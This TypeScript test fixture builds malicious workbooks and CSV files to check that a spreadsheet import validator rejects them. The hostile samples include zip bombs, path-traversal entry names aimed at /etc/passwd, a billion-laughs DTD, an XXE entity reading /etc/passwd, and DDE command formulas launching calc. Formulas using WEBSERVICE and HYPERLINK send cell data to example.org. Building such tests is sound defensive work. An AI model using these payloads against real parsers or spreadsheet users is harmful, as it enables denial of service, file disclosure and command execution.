import { deflateRawSync } from 'node:zlib'
import { maxFileBytes } from '../../../../../functions/documents/reading/imported-table.ts'
import { excelFileOf } from '../../../../../functions/documents/sheets/excel.ts'
import { partsOf } from '../../sheets/parts.ts'
import { type Entry, zipOf } from '../zip-writer.ts'
import { type Hostile, hostile } from './hostile.ts'

/** Workbooks and lists that somebody could send, each made here, and why each is refused. */

const headings = ['Số, ký hiệu', 'Ngày ban hành', 'Nội dung nhiệm vụ', 'Đơn vị chủ trì']
const row = ['4651/UBND-KSTT', '26/07/2021', 'Báo cáo tiến độ', 'Sở Xây dựng']

const good = partsOf(
  excelFileOf({
    name: 'Nhiệm vụ',
    title: 'Nhiệm vụ',
    columns: headings.map((heading) => ({ heading, width: 20 })),
    rows: [row.map((text) => ({ text }))],
  }),
)

const sheet = 'xl/worksheets/sheet1.xml'
const types = '[Content_Types].xml'
const relations = 'xl/_rels/workbook.xml.rels'

/** The workbook with other parts in place of its own, or beside them. */
const entriesWith = (parts: Readonly<Record<string, string>>): Entry[] =>
  Object.entries({ ...good, ...parts }).map(([name, data]) => ({ name, data }))
const workbookWith = (parts: Readonly<Record<string, string>>) => zipOf(entriesWith(parts))

const replaced = (part: string, find: string, by: string): Record<string, string> => {
  const text = good[part] ?? ''
  if (!text.includes(find)) throw new Error(`${part} has no ${find}`)
  return { [part]: text.replace(find, by) }
}

const inSheet = (find: string, by: string) => workbookWith(replaced(sheet, find, by))
/** A cell more at the end of the second row. */
const withCell = (cell: string) => inSheet('</row></sheetData>', `<c r="E2">${cell}</c></row></sheetData>`)
const withRows = (rows: Iterable<string>) => inSheet('</sheetData>', `${[...rows].join('')}</sheetData>`)

/** The sheet's entry with lies about it. */
const lying = (lie: Partial<Entry>) =>
  zipOf(entriesWith({}).map((entry) => (entry.name === sheet ? { ...entry, ...lie } : entry)))

const beside = (...entries: Entry[]) => zipOf([...entriesWith({}), ...entries])

const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024, 0x20)
const big = 0xfffffff0

const related = (type: string, target = 'http://example.org/x') =>
  workbookWith(
    replaced(
      relations,
      '</Relationships>',
      `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
    ),
  )

const dtd = (declaration: string) => inSheet('<worksheet', `${declaration}<worksheet`)

const many = (count: number, of: (place: number) => string): string[] =>
  Array.from({ length: count }, (_, n) => of(n))

/** A hundred letters in an order of their own, so that they cannot be packed to nothing. */
const scrambled = (seed: number): string =>
  many(100, (n) => String.fromCharCode(97 + ((((seed + 7) * (n + 3) * 2_654_435_761) >>> 7) % 26))).join('')

const sharedTexts = (items: string): Record<string, string> => ({
  'xl/sharedStrings.xml': `<sst>${items}</sst>`,
  ...replaced(
    relations,
    '</Relationships>',
    '<Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
  ),
})

const ole = (inside = '') =>
  Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.alloc(512),
    Buffer.from(inside, 'utf16le'),
  ])

const csv = (text: string) => Buffer.from(text)

const bombs = hostile('file-too-big-unpacked', {
  'more than 64 megabytes of blanks': () => beside({ name: 'xl/media/a.bin', data: zeros(65) }),
  'five million empty cells': () => withRows(['<c/>'.repeat(5_000_000)]),
  'a sheet a thousand times as large as its bytes': () => lying({ data: zeros(30) }),
  'many parts that are large together': () =>
    beside(...many(20, (n) => `xl/media/${n}.bin`).map((name) => ({ name, data: zeros(4) }))),
  'a header that promises four gigabytes': () => lying({ says: { size: big } }),
  'six hundred parts': () =>
    beside(...many(600, (n) => `xl/media/${n}.txt`).map((name) => ({ name, data: 'a' }))),
})

const lies = hostile('file-damaged', {
  'a bomb that says it is small': () =>
    lying({ data: good[sheet] ?? '', packed: deflateRawSync(zeros(60)), says: { size: 5_000 } }),
  'a part larger than it says': () => lying({ says: { size: 100 } }),
  'a part smaller than it says': () => lying({ says: { size: (good[sheet]?.length ?? 0) + 900 } }),
  'a checksum that is not its own': () => lying({ says: { crc: 1 } }),
  'a name other than in the directory': () => lying({ headerSays: { name: 'xl/worksheets/sheet9.xml' } }),
  'a size other than in the directory': () => lying({ headerSays: { size: 1 } }),
  'a way of packing other than in the directory': () => lying({ headerSays: { method: 0 } }),
  'an unknown way of packing': () => lying({ says: { method: 99 } }),
  'an unpacked part with two sizes': () => lying({ stored: true, says: { size: 3 } }),
  'packed bytes that are none': () => lying({ packed: Buffer.alloc(200, 0xff) }),
  'a part that begins beyond the file': () => lying({ says: { at: big } }),
  'a part that reaches into the directory': () => lying({ says: { packedSize: 900_000 }, headerSays: {} }),
  'two parts over the same bytes': () => lying({ says: { at: 0 } }),
  'a name twice': () => beside({ name: sheet, data: 'other' }),
  'a name twice, once in capitals': () => beside({ name: sheet.toUpperCase(), data: 'other' }),
  'a name that leads out': () => beside({ name: '../../etc/passwd', data: 'x' }),
  'a name from the root': () => beside({ name: '/etc/passwd', data: 'x' }),
  'a name with a backslash': () => beside({ name: 'xl\\a.xml', data: 'x' }),
  'a name with a drive': () => beside({ name: 'C:a.xml', data: 'x' }),
  'several disks': () => zipOf(entriesWith({}), { disk: 1 }),
  'a directory with more than it counts': () => zipOf(entriesWith({}), { count: 2 }),
  'a directory with fewer than it counts': () => zipOf(entriesWith({}), { count: 90 }),
  'a directory elsewhere': () => zipOf(entriesWith({}), { start: 4 }),
  'a zip64 end': () =>
    zipOf(entriesWith({}), {
      before: Buffer.concat([Buffer.from([0x50, 0x4b, 0x06, 0x07]), Buffer.alloc(16)]),
    }),
  'only its first half': () => workbookWith({}).subarray(0, 900),
  'nothing but the first bytes of a zip': () => Buffer.from('PK\u0003\u0004'),
})

const sheets = hostile('file-damaged', {
  'a tag that is not closed': () => inSheet('</sheetData>', ''),
  'tags that do not match': () => inSheet('</sheetData>', '</sheetRows>'),
  'an attribute twice': () => inSheet('r="A2"', 'r="A2" r="B2"'),
  'an & alone': () => withCell('<v>1 & 2</v>'),
  'a reference to no letter': () => withCell('<v>&#0;</v>'),
  'bytes that are no UTF-8': () =>
    lying({ data: Buffer.concat([Buffer.from(good[sheet] ?? ''), Buffer.from([0xff])]) }),
  'tags a thousand deep': () => withCell('<a>'.repeat(1000) + '</a>'.repeat(1000)),
  'a tag without an end': () => withCell(`<v ${'x'.repeat(600_000)}`),
  'a cell twice': () => inSheet('</row></sheetData>', '<c r="A2"/></row></sheetData>'),
  'a row twice': () => withRows(['<row r="1"/>']),
  'a cell beyond the sheet': () => withRows(['<row r="9999999"><c r="A9999999"><v>1</v></c></row>']),
  'a text that is not there': () =>
    inSheet('</row></sheetData>', '<c r="E2" t="s"><v>7</v></c></row></sheetData>'),
  'a number that is none': () => withCell('<v>1e999</v>'),
  'a kind of cell that there is not': () =>
    inSheet('</row></sheetData>', '<c r="E2" t="q"><v>7</v></c></row></sheetData>'),
  'a sheet that is not there': () => workbookWith(replaced('xl/workbook.xml', 'rId1"', 'rId77"')),
  'twenty thousand merged cells': () =>
    inSheet(
      '<autoFilter',
      `<mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(20_000)}</mergeCells><autoFilter`,
    ),
})

const contents: readonly Hostile[] = [
  ...hostile('file-has-entities', {
    'a billion laughs': () =>
      dtd(`<!DOCTYPE x [${many(10, (n) => `<!ENTITY a${n} "${`&a${n - 1};`.repeat(10)}">`).join('')}]>`),
    'an entity from a file': () => dtd('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
    'an entity that nobody declared': () => withCell('<v>&nbsp;</v>'),
  }),
  ...hostile('file-has-macros', {
    'a VBA project': () => beside({ name: 'xl/vbaProject.bin', data: 'x' }),
    'a macro sheet of old': () => beside({ name: 'xl/macrosheets/sheet1.xml', data: '<a/>' }),
    'a control': () => beside({ name: 'xl/activeX/activeX1.xml', data: '<a/>' }),
    'a button that calls': () => beside({ name: 'customUI/customUI14.xml', data: '<a/>' }),
    'the type of a workbook with macros': () =>
      workbookWith(
        replaced(types, 'spreadsheetml.sheet.main+xml', 'spreadsheetml.sheet.macroEnabled.main+xml'),
      ),
  }),
  ...hostile('file-has-macros', { 'a name for macros': () => workbookWith({}) }, 'danh-sach.xlsm'),
  ...hostile('file-has-links', {
    'another workbook’s cells': () => beside({ name: 'xl/externalLinks/externalLink1.xml', data: '<a/>' }),
    'a connection to data': () => beside({ name: 'xl/connections.xml', data: '<a/>' }),
    'a file inside the file': () => beside({ name: 'xl/embeddings/oleObject1.bin', data: 'x' }),
    'a link to another workbook': () => related('externalLinkPath'),
    'a picture from the network': () => related('image', 'http://example.org/track.png'),
    'a name for another program': () =>
      workbookWith(
        replaced(
          'xl/workbook.xml',
          '</sheets>',
          `</sheets><definedNames><definedName name="a">cmd|'/C calc'!A0</definedName></definedNames>`,
        ),
      ),
    'a template from a share': () => related('attachedTemplate', 'file://server/share/a.dotm'),
  }),
  ...hostile('file-has-formulas', {
    'a cell of another workbook': () => withCell('<f>SUM(A1,[1]Sheet1!A2)</f><v>3</v>'),
    'a cell of a workbook by its path': () => withCell("<f>'C:\\so lieu\\[a.xlsx]Tháng 7'!$A$1</f><v>3</v>"),
    'a name of another workbook': () => withCell('<f>[1]!So_lieu</f><v>3</v>'),
    'a workbook called by its words': () => withCell('<f>INDIRECT("[a.xlsx]S!A1")</f><v>3</v>'),
    'an address that is asked': () => withCell('<f>_xlfn.WEBSERVICE("http://example.org")</f><v>3</v>'),
    'an add-in': () => withCell('<f>_xll.Anything(A1)</f><v>3</v>'),
    'a link that sends data': () => withCell('<f>HYPERLINK("http://example.org/"&amp;A1)</f><v>0</v>'),
    'a call of another program': () => withCell("<f>cmd|' /C calc'!A0</f>"),
    'a call of another program, shared by cells': () =>
      withCell(`<f t="shared" ref="E2:E9" si="0">cmd|'/C calc'!A2</f><v>1</v>`),
  }),
]

const measures: readonly Hostile[] = [
  ...hostile('file-too-big', {
    'a byte more than a file may have': () => Buffer.alloc(maxFileBytes + 1, 0x41),
  }),
  ...hostile('file-too-many-rows', {
    'six thousand rows': () =>
      withRows(many(6_000, (n) => `<row r="${n + 3}"><c r="A${n + 3}"><v>1</v></c></row>`)),
  }),
  ...hostile('file-too-many-columns', {
    'a cell far to the right': () =>
      inSheet('</row></sheetData>', '<c r="XFD2"><v>1</v></c></row></sheetData>'),
  }),
  ...hostile('file-too-many-sheets', {
    'thirty sheets': () =>
      workbookWith(
        replaced(
          'xl/workbook.xml',
          '</sheets>',
          `${'<sheet name="x" sheetId="9" r:id="rId1"/>'.repeat(30)}</sheets>`,
        ),
      ),
  }),
  ...hostile('file-cell-too-long', {
    'a cell of forty thousand letters': () => withCell(`<v>${'9'.repeat(40_000)}</v>`),
    'a text of a hundred thousand letters in runs': () =>
      workbookWith(sharedTexts(`<si>${'<r><t>aaaaaaaaaa</t></r>'.repeat(10_000)}</si>`)),
  }),
  ...hostile('file-too-much-text', {
    'one long text in a thousand cells': () =>
      workbookWith({
        ...sharedTexts(`<si><t>${'ă'.repeat(32_000)}</t></si>`),
        ...replaced(
          sheet,
          '</sheetData>',
          `${many(1_000, (n) => `<row r="${n + 3}"><c r="A${n + 3}" t="s"><v>0</v></c></row>`).join('')}</sheetData>`,
        ),
      }),
    'one long text merged over a thousand rows': () =>
      workbookWith({
        ...sharedTexts(`<si><t>${'ă'.repeat(32_000)}</t></si>`),
        ...replaced(
          sheet,
          '</sheetData>',
          `<row r="3"><c r="C3" t="s"><v>0</v></c></row>${many(1_000, (n) => `<row r="${n + 4}"><c r="A${n + 4}"><v>1</v></c></row>`).join('')}</sheetData><mergeCells><mergeCell ref="C3:C1048576"/></mergeCells>`,
        ),
      }),
    'one long text in many cells of twenty sheets': () =>
      workbookWith({
        ...sharedTexts(`<si><t>${'ă'.repeat(32_000)}</t></si>`),
        ...replaced(
          'xl/workbook.xml',
          '</sheets>',
          `${'<sheet name="x" sheetId="9" r:id="rId1"/>'.repeat(18)}</sheets>`,
        ),
        ...replaced(
          sheet,
          '</sheetData>',
          `${many(30, (n) => `<row r="${n + 3}"><c r="A${n + 3}" t="s"><v>0</v></c></row>`).join('')}</sheetData>`,
        ),
      }),
    'texts without end': () =>
      workbookWith(sharedTexts(many(400, (n) => `<si><t>${scrambled(n).repeat(270)}</t></si>`).join(''))),
  }),
]

const kinds: readonly Hostile[] = [
  ...hostile('file-too-many-columns', { 'four million commas': () => csv(','.repeat(4_000_000)) }, 'a.csv'),
  ...hostile('file-empty', { nothing: () => new Uint8Array(0) }),
  ...hostile('file-encrypted', {
    'a workbook with a password': () => ole('EncryptionInfo EncryptedPackage\0'),
    'a part with a password': () => lying({ says: { flags: 1 } }),
  }),
  ...hostile(
    'file-binary-excel',
    { 'a binary workbook': () => zipOf([{ name: 'xl/workbook.bin', data: 'x' }]) },
    'a.xlsb',
  ),
  ...hostile('file-not-excel', {
    'a Word document': () =>
      zipOf([
        { name: '[Content_Types].xml', data: '<a/>' },
        { name: 'word/document.xml', data: '<a/>' },
      ]),
    'a PDF': () => csv('%PDF-1.7'),
    'a program': () => Buffer.from([0x4d, 0x5a, 0, 0, 1]),
  }),
  ...hostile('file-name-differs', {
    'CSV that calls itself a workbook': () => csv(`${headings.join(';')}\r\n${row.join(';')}`),
  }),
  ...hostile('file-name-differs', { 'a workbook that calls itself CSV': () => workbookWith({}) }, 'a.csv'),
  ...hostile(
    'file-encoding',
    {
      'an encoding of before Unicode': () =>
        Buffer.concat([csv('a,b\r\nc,d\r\n'), Buffer.from([0xd0, 0xf4, 0x0a])]),
    },
    'a.csv',
  ),
  ...hostile(
    'file-quotes',
    { 'a quote that is never closed': () => csv(`${headings.join(';')}\r\n"a;b;c`) },
    'a.csv',
  ),
  ...hostile('file-without-list', {
    'a workbook of something else': () =>
      workbookWith({
        [sheet]: headings.reduce((text, heading) => text.replace(heading, 'x'), good[sheet] ?? ''),
      }),
  }),
  ...hostile('secret-directive', {
    'a secret stamp': () => inSheet('Báo cáo tiến độ', 'Báo cáo tiến độ (MẬT)'),
    'a grade of secrecy': () =>
      workbookWith({
        [sheet]: (good[sheet] ?? '')
          .replace('</row><row r="2"', '<c r="E1" t="inlineStr"><is><t>Độ mật</t></is></c></row><row r="2"')
          .replace(
            '</row></sheetData>',
            '<c r="E2" t="inlineStr"><is><t>Tối mật</t></is></c></row></sheetData>',
          ),
      }),
  }),
]

export const hostileFiles: readonly Hostile[] = [
  ...bombs,
  ...lies,
  ...sheets,
  ...contents,
  ...measures,
  ...kinds,
]

/** The same workbook, with nothing wrong about it. */
export const soundFile = (): Uint8Array => workbookWith({})

/** The same with a column more at its end. */
export const withLastColumn = (heading: string, cell: string): Uint8Array =>
  workbookWith({
    [sheet]: (good[sheet] ?? '')
      .replace('</row><row r="2"', `${heading}</row><row r="2"`)
      .replace('</row></sheetData>', `${cell}</row></sheetData>`),
  })

/** Its only list on a sheet that nobody sees. */
export const hiddenFile = (): Uint8Array =>
  workbookWith(replaced('xl/workbook.xml', '<sheet ', '<sheet state="veryHidden" '))
